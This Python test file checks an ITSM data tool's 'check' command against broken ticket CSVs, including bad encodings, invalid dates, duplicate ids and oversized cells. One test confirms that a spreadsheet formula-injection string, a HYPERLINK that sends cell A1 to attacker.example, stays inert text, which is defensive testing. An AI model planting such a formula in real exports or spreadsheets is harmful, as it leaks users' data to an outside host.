"""`itsm-ml check` on the corpus of broken inputs: each gives a clear error or a quarantine."""

from __future__ import annotations

import json
from pathlib import Path

import pandas as pd
import pytest
from typer.testing import CliRunner

from itsm_ml.cli import app
from tests.conftest import BROKEN

runner = CliRunner()


def check(
    tmp_path: Path,
    file: Path,
    *extra: str,
    kind: str = "ticket_csv",
    params: Path = BROKEN / "params.yaml",
) -> tuple[int, str, dict]:
    mapping = {
        "change_csv": ["--mapping", str(BROKEN / "changes_mapping.yaml")],
        "ticket_csv": ["--mapping", str(BROKEN / "mapping.yaml")],
    }.get(kind, [])
    result = runner.invoke(
        app,
        [
            "check",
            str(file),
            "--source",
            kind,
            *mapping,
            "--params",
            str(params),
            "--report-dir",
            str(tmp_path),
            *extra,
        ],
    )
    report_file = tmp_path / f"{file.name}.json"
    report = json.loads(report_file.read_text()) if report_file.exists() else {}
    return result.exit_code, result.output, report


def failed_rules(report: dict) -> dict[str, dict]:
    return {f"{r['column']}: {r['name']}": r for r in report["results"] if not r["success"]}


def test_valid_file_passes(tmp_path: Path) -> None:
    code, output, report = check(tmp_path, BROKEN / "valid.csv")
    assert code == 0, output
    assert report["passed"] and report["rows"] == 20 and report["quarantined_rows"] == 0
    assert (tmp_path / "valid.csv.html").read_text().startswith("<!doctype html>")


@pytest.mark.parametrize(
    ("name", "message"),
    [
        ("empty.csv", "file is empty (0 bytes)"),
        ("missing_column.csv", "missing required column 'group'"),
        ("renamed_column.csv", "'group' (did you mean 'Assignment Group'?)"),
        ("not_utf8.csv", "not valid utf-8 on line 8"),
        ("truncated.csv", "looks truncated"),
        ("not_csv.png", "not a CSV file, it is a PNG image"),
        ("not_csv.json", "not a CSV file, it looks like JSON"),
    ],
)
def test_unreadable_files_give_a_clear_error(tmp_path: Path, name: str, message: str) -> None:
    code, output, report = check(tmp_path, BROKEN / name)
    assert code == 1
    assert "Traceback" not in output
    flat = " ".join(output.split())
    assert message in flat
    assert name in flat
    # The failure is written as a report too, naming the rule that failed.
    assert report["passed"] is False
    assert message in report["results"][0]["observed"]


@pytest.mark.parametrize(
    ("name", "rule"),
    [
        ("header_only.csv", "None: row count between 1 and 50000000"),
        ("all_empty_text.csv", "text: text not all empty"),
    ],
)
def test_critical_rules_stop(tmp_path: Path, name: str, rule: str) -> None:
    code, output, report = check(tmp_path, BROKEN / name)
    assert code == 1, output
    assert rule in failed_rules(report)
    assert "INVALID" in output


@pytest.mark.parametrize(
    ("name", "rule", "reason"),
    [
        (
            "unparseable_dates.csv",
            "opened_at: value parses as a timestamp",
            "opened_at='31/02/2025 10:00'",
        ),
        ("closed_before_opened.csv", "closed_at: not closed before opened", "closed_at="),
        ("future_dates.csv", "opened_at: not in the future", "opened_at='2099-01-01T09:00:00'"),
        ("duplicate_ids.csv", "ticket_id: id unique", "id unique"),
        ("null_ids.csv", "ticket_id: id not null", "id not null"),
        ("unknown_labels.csv", "label_priority: value in the configured vocabulary", "'P9'"),
    ],
)
def test_row_rules_quarantine_with_reason(
    tmp_path: Path, name: str, rule: str, reason: str
) -> None:
    code, output, report = check(tmp_path, BROKEN / name)
    assert code == 0, output  # within the corpus limit of 10% quarantined rows
    failures = failed_rules(report)
    assert rule in failures, list(failures)
    assert failures[rule]["failed_count"] >= 1
    assert report["quarantined_rows"] >= 1
    flat = " ".join(output.split())
    assert "quarantined" in flat and reason.split("=")[0] in flat


def test_text_in_a_numeric_column_is_quarantined(tmp_path: Path) -> None:
    code, output, report = check(tmp_path, BROKEN / "text_in_numeric.csv", kind="change_csv")
    assert code == 0, output
    failure = failed_rules(report)["size: value parses as a number"]
    assert failure["failed_count"] == 1
    assert "size='big'" in failure["examples"][0]


def test_mixed_date_formats_exceed_the_quarantine_limit(tmp_path: Path) -> None:
    code, output, report = check(tmp_path, BROKEN / "mixed_date_formats.csv")
    assert code == 1
    assert report["quarantined_rows"] == 10
    flat = " ".join(output.split())
    assert "above the limit of 10.00%" in flat
    assert "opened_at='03/02/2025 09:01'" in flat


def test_the_default_limit_of_one_percent_stops_a_single_bad_row(tmp_path: Path) -> None:
    params = tmp_path / "params.yaml"
    params.write_text((BROKEN / "params.yaml").read_text().replace("0.1", "0.01"))
    result = runner.invoke(
        app,
        [
            "check",
            str(BROKEN / "duplicate_ids.csv"),
            "-s",
            "ticket_csv",
            "--mapping",
            str(BROKEN / "mapping.yaml"),
            "--params",
            str(params),
            "--report-dir",
            str(tmp_path),
        ],
    )
    assert result.exit_code == 1


def test_a_one_megabyte_text_cell_is_quarantined(tmp_path: Path) -> None:
    lines = (BROKEN / "valid.csv").read_text().splitlines(keepends=True)
    huge = lines[5].replace("paper stuck in tray 4", "x" * 1_048_576)
    file = tmp_path / "huge_cell.csv"
    file.write_text("".join([*lines[:5], huge, *lines[6:]]))
    code, output, report = check(tmp_path, file)
    assert code == 0, output
    failure = failed_rules(report)["text: text at most 100000 characters"]
    assert failure["failed_count"] == 1


def test_formula_strings_stay_inert_text(tmp_path: Path) -> None:
    code, output, report = check(tmp_path, BROKEN / "formulas.csv")
    assert code == 0, output
    assert report["passed"] and report["quarantined_rows"] == 0
    import yaml

    from itsm_ml.config import parse_source
    from itsm_ml.data.sources import load_table

    block = yaml.safe_load((BROKEN / "mapping.yaml").read_text())
    source = parse_source(
        "tickets", {**block, "kind": "ticket_csv", "path": str(BROKEN / "formulas.csv")}
    )
    frame = load_table("tickets", source)
    text = frame.loc[frame.ticket_id == "T0002", "text"].iloc[0]
    assert text.startswith('=HYPERLINK("http://attacker.example/?x="&A1,"click")')


def test_missing_mapping_is_a_usage_error(tmp_path: Path) -> None:
    result = runner.invoke(app, ["check", str(BROKEN / "valid.csv"), "--source", "ticket_csv"])
    assert result.exit_code == 2
    assert "needs --mapping" in " ".join(result.output.split())


def test_unknown_source_kind_is_a_usage_error() -> None:
    result = runner.invoke(app, ["check", str(BROKEN / "valid.csv"), "--source", "excel"])
    assert result.exit_code == 2


def test_schema_lists_canonical_columns() -> None:
    result = runner.invoke(app, ["schema", "changes"])
    assert result.exit_code == 0
    assert "label_failed" in result.output and "ticket_id" not in result.output


def test_generate_writes_exports_that_pass_check(tmp_path: Path) -> None:
    result = runner.invoke(app, ["generate", str(tmp_path), "--rows", "300", "--seed", "3"])
    assert result.exit_code == 0, result.output
    incidents = pd.read_csv(tmp_path / "incidents.csv")
    assert len(incidents) == 300
    project_params = Path(__file__).parents[2] / "params.yaml"
    code, output, report = check(
        tmp_path, tmp_path / "incidents.csv", kind="servicenow_table", params=project_params
    )
    assert code == 0, output
    assert report["quarantined_rows"] == 0
    result = runner.invoke(
        app,
        [
            "check",
            str(tmp_path / "changes.csv"),
            "-s",
            "change_csv",
            "--mapping",
            str(tmp_path / "changes.mapping.yaml"),
            "--report-dir",
            str(tmp_path / "r"),
            "--params",
            str(project_params),
        ],
    )
    assert result.exit_code == 0, result.output
